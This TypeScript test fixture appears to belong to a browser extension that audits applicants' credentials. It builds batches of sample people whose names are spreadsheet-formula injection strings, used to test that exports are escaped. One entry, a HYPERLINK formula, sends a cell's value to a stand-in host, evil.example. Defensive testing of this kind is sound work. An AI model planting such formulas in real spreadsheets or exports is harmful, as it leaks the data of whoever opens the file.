import { overviewOf } from '@/entrypoints/background/overview';
import type { BatchPerson } from '@/utils/browser/batch-people';
import type { Audit, Batch } from '@/utils/model/batch';
import { findingStates } from '@/utils/model/finding-row';
import type { Line } from '@/utils/model/overview';
import { sealReasons } from '@/utils/model/seal';

import { badgeLink } from '../browser/rows';
import { forged, kubernetes, problem, seenWith, unseen } from '../components/seen';

/** What people write who would like a spreadsheet to do something. */
export const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Amara")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  ' \n=1+1',
  '\u200b=1+1',
  '\uff1d1+1',
  '=1+1\nof several lines',
  'A "quoted" one, with commas; and bars|',
  'عمار الخطيب',
];

export const batch: Batch = {
  id: 'batch:one',
  tabId: -2,
  name: 'applicants.csv',
  madeAt: '2026-06-01T10:00:00.000Z',
  startedAt: '2026-06-01T10:01:00.000Z',
  until: '2026-08-30T10:00:00.000Z',
  state: 'running',
  versions: ['0.1.0', '0.1.1'],
  stamp: 4,
  people: 0,
};

export const audits: readonly Audit[] = [
  {
    id: 'batch:one 2026-06-01T10:01:00.000Z started',
    batch: 'batch:one',
    at: '2026-06-01T10:01:00.000Z',
    version: '0.1.0',
    did: 'started',
    people: 3,
    credentials: 4,
    hosts: ['issuer.example'],
  },
];

/** People with every verdict and state there is, named as badly as can be; `rounds` of all of them. */
export function batchPeople(rounds = 1): readonly BatchPerson[] {
  const every = [
    ...sealReasons.map((reason) => seenWith(reason)),
    ...HOSTILE.map((name) => {
      const hostile = kubernetes();
      return seenWith('expired', {
        result: { credential: { ...hostile, achievement: { ...hostile.achievement, name } } },
      });
    }),
    seenWith('not-judged', { result: { problem: problem('timed-out') } }),
    forged(),
    ...findingStates.filter((state) => state !== 'done').map((state) => unseen({ state })),
    seenWith('all-checked', { finding: { state: 'waiting' } }),
    seenWith('all-checked', { finding: { shared: true } }),
  ];
  return Array.from({ length: rounds * every.length }, (_, position): BatchPerson => {
    const id = `batch:one:${position}`;
    const seen = position % 14 === 6 ? [] : [0, 1].slice(0, 1 + (position % 2));
    return {
      match: undefined,
      candidate: {
        id,
        key: id,
        tabId: batch.tabId,
        position,
        name: HOSTILE[position % HOSTILE.length] ?? '',
        ...(position % 5 === 0 && { profile: `https://people.example/${position}` }),
        ...(position % 11 === 0 && {
          faults: [{ text: '=1+1 is no link', reason: 'no-address' as const }],
        }),
      },
      seen: seen.map((at) => {
        const { finding, result } = every[(position + at) % every.length] ?? unseen();
        const link = badgeLink({ href: `https://issuer.example/credentials/${position}-${at}` });
        return {
          finding: { ...finding, id: `${id}#${at}`, candidateId: id, position: at, link },
          result: finding.state === 'done' ? result : undefined,
        };
      }),
    };
  });
}

/** What the table shows of these people, row by row. */
export const tableLines = (people: readonly BatchPerson[]): readonly (readonly Line[])[] =>
  people.map(({ seen }) => overviewOf(seen, undefined).lines);

/** A verdict in one word, as all forms of export have it. */
export const verdictOfLine = ({ state, shape = 'neutral', reason = 'not-judged' }: Line): string =>
  `${state} ${shape} ${reason}`;
